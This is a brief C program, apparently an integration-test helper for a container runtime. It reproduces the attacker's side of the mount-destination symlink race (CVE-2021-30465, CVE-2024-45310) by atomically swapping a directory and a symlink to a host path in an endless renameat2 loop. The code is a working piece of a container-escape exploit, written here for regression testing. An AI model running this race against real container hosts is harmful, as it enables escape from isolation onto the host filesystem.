/*
 * The mount-destination race (CVE-2021-30465, CVE-2024-45310 and worse),
 * the attacker's side, run inside a task by the integration tests: swaps
 * two names atomically, as fast as it can, forever. One is a directory,
 * the other a symlink to a host path, so another task's mount
 * destination under that name is a directory one instant and a way out
 * the next.
 *
 * usage: swap A B
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
			perror("renameat2");
			return 1;
		}
}
